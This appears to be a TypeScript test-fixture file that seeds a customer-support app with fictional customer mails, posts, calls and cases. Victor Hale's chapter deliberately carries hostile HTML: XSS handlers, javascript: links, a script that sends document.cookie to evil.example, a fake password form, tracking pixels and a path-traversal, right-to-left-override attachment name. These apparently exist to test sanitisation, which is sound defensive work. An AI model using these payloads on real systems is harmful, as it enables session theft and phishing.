// Mails that try a program: fifty in a row with one that cannot be read, and one that attacks its reader.
import { chapter } from '../person.ts';

const ASKED = [
  'Is there rye today?',
  'Any seeded loaves left?',
  'May I have two on Friday?',
  'Was it spelt last week?',
  'Do you keep one until five?',
];
const ANSWERED = [
  'Yes, from eight.',
  'Three, shall we keep one?',
  'They are on the list.',
  'It was, with honey.',
  'Until six if you like.',
];

/**
 * Edith Lorne: writes a mail for every loaf; the 31st record is damaged. She writes in public, too, from an
 * account that nobody has linked to her.
 */
export const edith = chapter(
  22,
  {
    id: 'edith-lorne',
    name: 'Edith Lorne',
    brand: 'rye',
    since: '2025-09-02',
    pronoun: 'she',
    email: 'edith.lorne@example.com',
    phone: '+447700900346',
    unlinkedAcct: 'edith@lorne.example',
    without: ['hubspot_contact'],
  },
  (t) => {
    for (let week = 0; week < 25; week++) {
      const asked = Date.UTC(2025, 8, 2, 16, 20) + week * 7 * 86_400_000;
      const damaged = week === 15;
      const mail = t.mailIn(
        asked,
        `Bread, week ${week + 1}`,
        `Dear bakery,\n\n${ASKED[week % 5] ?? ''}\n\nYours, Edith Lorne`,
        {
          ...(damaged && {
            wire: (id: string, thread: string, at: number) => ({
              id,
              threadId: thread,
              receivedAt: new Date(at).toISOString().replace('.000Z', 'Z'),
              from: 'edith.lorne@example.com',
              to: [{ name: null, email: 'hello@ryeanddaughters.example' }],
              subject: { charset: 'unknown-8bit', raw: 'QnJlYWQsIHdlZWsgMTY=' },
              keywords: null,
              preview: '<b onclick="alert(1)">Is there rye today?</b>',
            }),
          }),
        },
      );
      t.mailOut(
        asked + 40 * 60_000,
        undefined,
        `Re: Bread, week ${week + 1}`,
        `Dear Edith,\n\n${ANSWERED[week % 5] ?? ''}\n\nRye & Daughters`,
        { re: mail },
      );
    }
    const praise = t.postIn(
      '2025-12-24 08:40',
      `<p>${t.mention()} the plaited loaf is the best thing on this table.</p>`,
    );
    t.postOut('2025-12-24 09:15', 'claire', '<p>@edith Merry Christmas to everybody around it.</p>', {
      re: praise,
    });
    t.postIn('2026-02-18 18:05', `<p>${t.mention()} still nobody has told me whether the spelt is back.</p>`);
    t.case({
      id: '20350',
      subject: 'A loaf every week',
      opened: '2026-02-17 16:20',
      resolved: '2026-02-17 18:00',
      owner: 'claire',
      since: '2026-02-17 16:40',
    });
  },
);

const HOSTILE = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>body{position:fixed;inset:0;background:red;z-index:99999}@import url(https://evil.example/b.css);</style></head>
<body onload="alert('load')"><p>Dear team, my parcel is late. Please look at the picture.</p>
<script>document.title='owned';fetch('https://evil.example/?c='+document.cookie)</script>
<img src="x" onerror="alert('img')"><svg onload="alert('svg')"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">click</text></a></svg>
<form action="https://evil.example/steal"><input name="password" placeholder="Your password"><button>Sign in again</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/bg.png)">You have been signed out. <a href="javascript:alert('a')">Sign in</a></div>
<a href="https://dunmore.example@evil.example/login">dunmore.example/login</a> <a href="data:text/html,<script>alert(4)</script>">open</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<img src="https://track.evil.example/open.gif?u=victor" width="1" height="1"><img srcset="https://evil.example/2x.png 2x"><video poster="https://evil.example/p.png"></video>
<math><mi xlink:href="javascript:alert(5)">x</mi></math><table background="https://evil.example/t.png"><tr><td>Order DM-50900</td></tr></table>
<template><img src=x onerror=alert(6)></template><p style="background-image:\\75rl(https://evil.example/esc.png)">Regards, Victor</p></body></html>`;

/** Victor Hale: an ordinary complaint inside the most hostile HTML one can mail. */
export const victor = chapter(
  23,
  {
    id: 'victor-hale',
    name: 'Victor Hale',
    brand: 'dunmore',
    since: '2026-03-01',
    pronoun: 'he',
    email: 'victor.hale@example.com',
    phone: '+447700900351',
    acct: 'vhale@elsewhere.example',
    web: 'vhale',
  },
  (t) => {
    t.order('2026-03-01 20:00', {
      number: 'DM-50900',
      items: [['Umbrella', 2400]],
      steps: [
        ['ordered', '2026-03-01 20:00'],
        ['shipped', '2026-03-05 09:00'],
      ],
    });
    t.mailIn(
      '2026-03-09 07:15',
      'Where is DM-50900? <script>alert("subject")</script>',
      'Dear team, my parcel is late. Please look at the picture. Regards, Victor',
      {
        html: HOSTILE,
        from: { name: '"><img src=x onerror=alert(1)>', email: 'victor.hale@example.com' },
        attachments: [
          { name: 'parcel.svg', type: 'image/svg+xml', size: 1400 },
          { name: 'invoice.html', type: 'text/html', size: 900 },
          { name: '../../etc/passwd\u202Egpj.exe', type: 'image/jpeg', size: 2200 },
        ],
      },
    );
    t.call('2026-03-09 12:30', {
      by: 'claire',
      minutes: 4,
      note: '<p onclick="alert(1)">Parcel found at the depot.<img src=x onerror="alert(2)"></p><a href="javascript:alert(3)">ticket</a><script>alert(4)</script>',
      outcome: 'Redelivery on 11 March <b>promised</b>',
    });
    t.smsIn('2026-03-11 10:00', '<b>It came.</b> Thanks & bye <script>alert(1)</script>');
    t.postIn(
      '2026-03-11 11:00',
      `<p>${t.mention()} found it <a href="javascript:alert(1)">here</a><img src=x onerror=alert(1)></p>`,
    );
    t.case({
      id: '20371',
      subject: 'Where is DM-50900?',
      opened: '2026-03-09 07:15',
      resolved: '2026-03-11 18:00',
      owner: 'claire',
      since: '2026-03-09 09:00',
    });
  },
);
